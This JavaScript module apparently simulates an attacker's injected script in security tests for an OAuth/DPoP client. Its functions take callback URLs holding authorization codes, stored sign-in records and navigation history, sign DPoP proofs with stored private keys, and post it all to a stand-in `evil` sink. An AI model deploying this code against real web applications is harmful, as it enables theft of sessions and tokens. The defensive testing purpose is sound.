// What a script can take on the page that the person comes back to, or in another tab meanwhile.

/**
 * Takes the URL and the record of the sign-in that it belongs to, before anybody else looks; on any page if `callback` is
 * empty. With `proofFor` it also signs
 * proofs with the key that is in the record: one for the token endpoint.
 */
export async function takeArrival(evil, { callback, proofFor }) {
  const { href } = location;
  if (callback && !href.startsWith(`${callback}?`)) return;
  const values = (await evil.records()).map(([, value]) => value);
  const proofs = [];
  for (const { pair } of values) if (pair && proofFor) proofs.push(await sign(pair, { htm: "POST", htu: proofFor }));
  await evil.post({ href, records: values.map(({ record }) => record), proofs });

  async function sign({ privateKey, publicKey }, claims) {
    const encode = (bytes) =>
      btoa(String.fromCharCode(...bytes))
        .replaceAll("+", "-")
        .replaceAll("/", "_")
        .replaceAll("=", "");
    const json = (value) => encode(new TextEncoder().encode(JSON.stringify(value)));
    const { kty, crv, x, y } = await crypto.subtle.exportKey("jwk", publicKey);
    const header = { typ: "dpop+jwt", alg: "ES256", jwk: { kty, crv, x, y } };
    const input = `${json(header)}.${json({ jti: crypto.randomUUID(), iat: Math.floor(Date.now() / 1000), ...claims })}`;
    const algorithm = { name: "ECDSA", hash: "SHA-256" };
    const signature = await crypto.subtle.sign(algorithm, privateKey, new TextEncoder().encode(input));
    return `${input}.${encode(new Uint8Array(signature))}`;
  }
}

/** Takes every address that a late script can find, and what is left in the store. */
export async function takeTraces(evil) {
  const values = (await evil.records()).map(([, value]) => value);
  const shown = [location.href, document.URL, document.baseURI, document.referrer, ...navigation.entries().map(({ url }) => url)];
  const noted = performance.getEntriesByType("navigation").map(({ name }) => name);
  await evil.post({ shown, noted, records: values.map(({ record }) => record) });
}
